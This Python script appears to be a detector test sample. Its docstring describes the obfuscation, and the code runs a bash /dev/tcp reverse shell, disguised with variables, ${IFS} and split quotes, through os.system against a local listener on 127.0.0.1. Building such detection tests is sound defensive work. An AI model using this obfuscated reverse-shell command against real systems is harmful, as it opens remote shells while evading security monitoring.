# technique: T1059.004 T1095 T1027
"""Obfuscated /dev/tcp reverse shell in os.system text: variables, quotes and ${IFS} (T1059.004, T1095, T1027).

The command is the /dev/tcp reverse shell with every telling token broken
up: the path is assembled from variables (d=/de; ${d}v/t''cp), spaces
are ${IFS}, "bash" is b""ash, and a redirection uses the exec 5<>
descriptor form instead of >&. It is given to os.system.

A good detector raises a critical alert: shell text that opens a /dev/tcp
connection and runs a shell on it, after normalising quotes and variables.
"""
import os
import socket
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
command = ("d=/de;p=%d;b\"\"ash${IFS}-c${IFS}'exec 5<>'${d}v/t''cp/127.0.0.1/$p';"
           "s\"h\" <&5 >&5 2>&5'") % port
status = os.system(command)
operator.join(3)
print("status", status, "operator transcript:", transcript)
